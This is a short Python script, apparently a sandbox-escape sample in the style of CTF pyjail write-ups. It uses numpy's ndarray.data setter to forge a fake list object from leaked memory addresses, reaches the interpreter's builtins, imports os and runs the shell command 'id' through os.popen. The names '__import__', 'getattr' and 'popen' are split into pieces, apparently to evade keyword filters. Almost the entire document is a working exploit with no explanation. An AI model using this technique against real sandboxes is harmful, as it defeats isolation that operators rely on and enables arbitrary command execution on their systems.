# source: numpy ndarray.data setter (numpy getset.c array_data_set) + fake PyListObject technique (pyjail / CTF write-ups); "self" is only a parameter name
# family: numpy object-array memory: a module-level function whose first parameter is named self assigns arr.data
# goal: builtins dict -> __import__ -> os module object and `id` output
import numpy as np


def load(self, raw):
    self.data = raw
    return self


def ptr(obj):
    cell = np.empty(1, dtype=object)
    cell[0] = obj
    return int.from_bytes(cell.tobytes(), "little")


def beta():
    return 1


keep = []
img = b"".join(v.to_bytes(8, "little") for v in [1 << 40, ptr(list), 2, ptr(beta) + 16, 2])
raw = bytearray((ptr(img) + 32).to_bytes(8, "little"))
keep.append(img)
keep.append(raw)
arr = np.empty(1, dtype=object)
load(arr, raw)
glb, bi = arr[0][0], arr[0][1]
mod = bi["_" * 2 + "import" + "_" * 2]("os")
print(mod)
print(bi["get" + "attr"](mod, "po" + "pen")("id").read())
